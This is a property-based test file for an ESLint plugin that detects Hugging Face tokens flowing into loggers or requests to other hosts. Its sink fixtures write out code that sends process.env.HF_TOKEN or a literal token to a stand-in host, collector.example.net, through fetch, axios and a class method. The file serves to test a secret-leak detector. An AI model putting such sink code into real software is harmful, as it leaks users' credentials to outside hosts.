import { Linter } from "eslint";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import plugin from "../../src/index";
import { makeToken } from "../helpers/tokens";

/*
 * Generated programs route a value through a random chain of the value flow's steps
 * (src/ast/token-values.ts) to a logger or a request to another host. When the value is a token
 * (an env read or a literal), the sink is reported, once; when it is an unrelated value through
 * the same chain, nothing is.
 */
const config: Linter.Config[] = [
  {
    files: ["**/*.js"],
    plugins: { "hf-secrets": plugin as never },
    rules: { "hf-secrets/no-token-logging": "error", "hf-secrets/no-token-to-third-party": "error" },
  },
];

/** One step: code that binds `v${index + 1}` from the expression `input`, with names of its own. */
type Step = (input: string, index: number) => string;

const STEPS: Record<string, Step> = {
  const: (input, index) => `const v${index + 1} = ${input};`,
  letLater: (input, index) => `let v${index + 1};\nv${index + 1} = ${input};`,
  property: (input, index) => `const o${index} = { key: ${input}, other: 1 };\nconst v${index + 1} = o${index}.key;`,
  nested: (input, index) => `const o${index} = { a: { b: ${input} } };\nconst v${index + 1} = o${index}.a.b;`,
  destructure: (input, index) => `const { key: v${index + 1} } = { key: ${input}, other: 2 };`,
  arrayDestructure: (input, index) => `const [, v${index + 1}] = [0, ${input}];`,
  spread: (input, index) => `const o${index} = { key: ${input} };\nconst p${index} = { ...o${index}, extra: 3 };\nconst v${index + 1} = p${index}.key;`,
  template: (input, index) => `const v${index + 1} = \`Bearer \${${input}}\`;`,
  concat: (input, index) => `const v${index + 1} = "x-" + ${input};`,
  fallback: (input, index) => `const v${index + 1} = ${input} || "none";`,
  ternary: (input, index) => `const v${index + 1} = flag ? ${input} : "";`,
  returned: (input, index) => `function read${index}() {\n  return ${input};\n}\nconst v${index + 1} = read${index}();`,
  arrow: (input, index) => `const read${index} = () => ${input};\nconst v${index + 1} = read${index}();`,
  parameter: (input, index) => `function pass${index}(value, unused) {\n  return value;\n}\nconst v${index + 1} = pass${index}(${input}, 0);`,
  destructuredParameter: (input, index) => `const pass${index} = ({ key }) => key;\nconst v${index + 1} = pass${index}({ key: ${input} });`,
  classField: (input, index) => `class C${index} {\n  constructor(value) {\n    this.value = value;\n  }\n}\nconst v${index + 1} = new C${index}(${input}).value;`,
  passThrough: (input, index) => `const v${index + 1} = String(${input}).trim();`,
  formatted: (input, index) => `const v${index + 1} = util.format("%s", ${input});`,
  styled: (input, index) => `const colours${index} = require("picocolors");\nconst v${index + 1} = colours${index}.green(${input});`,
  filledParams: (input, index) => `const v${index + 1} = new URLSearchParams();\nv${index + 1}.append("token", ${input});`,
};

const SINKS: Record<string, (input: string) => { code: string; rule: string }> = {
  log: (input) => ({ code: `console.log(${input});`, rule: "hf-secrets/no-token-logging" }),
  warn: (input) => ({ code: `logger.warn("token", ${input});`, rule: "hf-secrets/no-token-logging" }),
  request: (input) => ({ code: `fetch("https://collector.example.net/x", { headers: { Authorization: ${input} } });`, rule: "hf-secrets/no-token-to-third-party" }),
  requestInit: (input) => ({ code: `const init = { method: "POST", headers: { Authorization: ${input} } };\nfetch("https://collector.example.net/x", init);`, rule: "hf-secrets/no-token-to-third-party" }),
  clientInstance: (input) => ({ code: `const api = axios.create({ baseURL: "https://collector.example.net" });\napi.post("/x", { key: ${input} });`, rule: "hf-secrets/no-token-to-third-party" }),
  childLogger: (input) => ({ code: `const makeLogger = require("pino");\nconst base = makeLogger();\nbase.child({ module: "x" }).info(${input});`, rule: "hf-secrets/no-token-logging" }),
  methodSink: (input) => ({
    code: `class Sender {\n  constructor(secret) {\n    this.secret = secret;\n  }\n  send() {\n    return fetch("https://collector.example.net", { body: this.secret });\n  }\n}\nnew Sender(${input});`,
    rule: "hf-secrets/no-token-to-third-party",
  }),
};

const TOKEN = makeToken(9090);
const TOKEN_SOURCES = ["process.env.HF_TOKEN", "process.env.HUGGINGFACEHUB_API_TOKEN", JSON.stringify(TOKEN)];
const UNRELATED_SOURCES = ["process.env.PORT", '"hello there"', "process.env.HF_HOME", "42"];

function program(source: string, steps: readonly string[], sink: string): { code: string; rule: string } {
  const lines = ["const flag = Math.random() > 0.5;"];
  let current = source;
  steps.forEach((name, index) => {
    lines.push(STEPS[name]!(current, index));
    current = `v${index + 1}`;
  });
  const end = SINKS[sink]!(current);
  lines.push(end.code);
  return { code: lines.join("\n"), rule: end.rule };
}

const chains = fc.array(fc.constantFrom(...Object.keys(STEPS)), { minLength: 1, maxLength: 5 });
const sinks = fc.constantFrom(...Object.keys(SINKS));

function ruleIds(code: string): string[] {
  return new Linter().verify(code, config, { filename: "flow.js" }).map((message) => message.ruleId ?? `fatal: ${message.message}`);
}

describe("value flow properties", () => {
  it("a token through any chain of steps reaches the sink, reported once", () => {
    fc.assert(
      fc.property(fc.constantFrom(...TOKEN_SOURCES), chains, sinks, (source, steps, sink) => {
        const { code, rule } = program(source, steps, sink);
        expect(ruleIds(code), code.replace(TOKEN, "<token>")).toEqual([rule]);
      }),
      { numRuns: 300, seed: 22 },
    );
  });

  it("an unrelated value through the same chains is not reported", () => {
    fc.assert(
      fc.property(fc.constantFrom(...UNRELATED_SOURCES), chains, sinks, (source, steps, sink) => {
        const { code } = program(source, steps, sink);
        expect(ruleIds(code), code).toEqual([]);
      }),
      { numRuns: 300, seed: 23 },
    );
  });
});
